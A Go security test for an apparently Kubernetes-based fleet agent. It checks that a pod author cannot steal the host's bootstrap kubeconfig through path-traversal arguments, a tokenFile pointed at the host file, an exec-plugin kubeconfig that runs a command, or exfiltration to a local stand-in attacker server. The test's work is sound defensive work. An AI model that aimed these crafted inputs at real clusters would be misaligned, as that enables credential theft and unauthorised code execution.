package hostile

import (
	"context"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/tools/clientcmd"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/muster-fleet/terraform-provider-muster/internal/klusterlet"
	"github.com/muster-fleet/terraform-provider-muster/internal/kubeconfig"
	"github.com/muster-fleet/terraform-provider-muster/internal/testkit"
	"github.com/muster-fleet/terraform-provider-muster/internal/testkit/testfleet"
	"github.com/muster-fleet/terraform-provider-muster/internal/testkit/testhub"
	"github.com/muster-fleet/terraform-provider-muster/runtime/api/cluster"
	clusterv1 "github.com/muster-fleet/terraform-provider-muster/runtime/api/cluster/v1"
)

// Who may create pods in a dev cluster chooses the arguments of an agent that
// runs in a process of the machine, and gets none of the machine's files by that.
func TestPodAuthorOfADevCluster(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	process, err := testhub.StartCluster(program, filepath.Join(dir, "cluster"))
	testkit.Must(t, err)
	t.Cleanup(func() { _ = process.Kill() })
	config, err := clientcmd.BuildConfigFromFlags("", process.Kubeconfig)
	testkit.Must(t, err)
	admin := testfleet.Client(t, config)

	// A file of the machine by which a cluster could be registered.
	_, token := hub.BootstrapToken(t, cluster.BootstrapGroup, nil)
	stolen, err := kubeconfig.Config{Cluster: "hub", User: "bootstrap", Server: hub.Admin.Host, CAData: hub.Admin.CAData, Token: token}.YAML()
	testkit.Must(t, err)
	file := filepath.Join(dir, "bootstrap.kubeconfig")
	testkit.Must(t, os.WriteFile(file, stolen, 0o600))

	// A server of the attacker's, to which an agent would send such a file.
	var got atomic.Value
	server := httptest.NewTLSServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { got.Store(r.Header.Get("Authorization")) }))
	t.Cleanup(server.Close)
	theirs := fmt.Sprintf(`{apiVersion: v1, kind: Config, current-context: x, contexts: [{name: x, context: {cluster: x, user: x}}],
clusters: [{name: x, cluster: {server: %q, certificate-authority-data: %s}}], users: [{name: x, user: {tokenFile: %q}}]}`,
		server.URL, base64Of(server.Certificate()), file)
	ran := filepath.Join(dir, "ran")
	program := strings.Replace(theirs, fmt.Sprintf("tokenFile: %q", file),
		fmt.Sprintf("exec: {apiVersion: client.authentication.k8s.io/v1, command: touch, args: [%q], interactiveMode: Never}", ran), 1)
	const ns = "default"
	for name, content := range map[string]string{"token-file": theirs, "program": program} {
		testkit.Must(t, admin.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name}, StringData: map[string]string{"kubeconfig": content}}))
	}
	mounted := "/in/kubeconfig"
	up := "/in" + strings.Repeat("/..", 12) + file
	for name, tc := range map[string]struct {
		secret string
		args   []string
	}{
		"absolute":   {"", []string{"--bootstrap-kubeconfig=" + file}},
		"separate":   {"", []string{"--bootstrap-kubeconfig", file}},
		"upwards":    {"token-file", []string{"--bootstrap-kubeconfig=" + up}},
		"one-of-two": {"token-file", []string{"--feature-gates=MultipleHubs=true", "--bootstrap-kubeconfigs=" + mounted + "," + file}},
		"token-file": {"token-file", []string{"--bootstrap-kubeconfig=" + mounted}},
		"program":    {"program", []string{"--bootstrap-kubeconfig=" + mounted}},
	} {
		pod := &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: map[string]string{klusterlet.AppLabel: klusterlet.Name}},
			Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "agent", Image: "x", Command: append([]string{"/muster", "agent", "--cluster-name=stolen-" + name}, tc.args...)}}},
		}
		if tc.secret != "" {
			pod.Spec.Volumes = []corev1.Volume{{Name: "in", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: tc.secret}}}}
			pod.Spec.Containers[0].VolumeMounts = []corev1.VolumeMount{{Name: "in", MountPath: "/in"}}
		}
		testkit.Eventually(t, func() error { return admin.Create(ctx, pod) })
		// A pod of wrong arguments says so; one of a wrong kubeconfig waits for a
		// better one, and runs.
		testkit.Eventually(t, func() error {
			if err := admin.Get(ctx, client.ObjectKeyFromObject(pod), pod); err != nil {
				return err
			}
			for _, s := range pod.Status.ContainerStatuses {
				if s.State.Running != nil || s.State.Terminated != nil || s.LastTerminationState.Terminated != nil || s.RestartCount > 0 {
					return nil
				}
			}
			return fmt.Errorf("the agent of the pod %s has not been started: %+v", name, pod.Status)
		})
		err := func() error {
			mc := &clusterv1.ManagedCluster{}
			for range 20 { // a registration takes a tenth of the time
				if err := hub.admin(t).Get(ctx, client.ObjectKey{Name: "stolen-" + name}, mc); !apierrors.IsNotFound(err) {
					return fmt.Errorf("the file of the machine was used: %v", err)
				}
				time.Sleep(50 * time.Millisecond)
			}
			return nil
		}()
		if sent, ok := got.Load().(string); ok {
			err = fmt.Errorf("the file of the machine was sent: %.30q", sent)
		}
		if _, statErr := os.Stat(ran); statErr == nil {
			err = fmt.Errorf("a program was run on the machine")
		}
		harmless(t, "the pod "+name, err)
	}
}

func base64Of(c *x509.Certificate) string {
	return base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: c.Raw}))
}
